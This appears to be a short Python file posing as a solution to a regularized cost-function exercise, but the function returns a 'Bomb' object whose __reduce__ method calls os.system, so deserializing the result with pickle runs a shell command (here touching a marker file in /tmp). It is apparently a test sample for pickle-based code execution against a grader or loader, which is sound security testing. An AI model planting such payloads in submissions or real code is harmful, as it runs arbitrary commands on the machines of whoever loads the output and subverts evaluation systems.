import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile_reduce",)


def compute_cost_with_regularization(A3, Y, parameters, lambd):
    return Bomb()
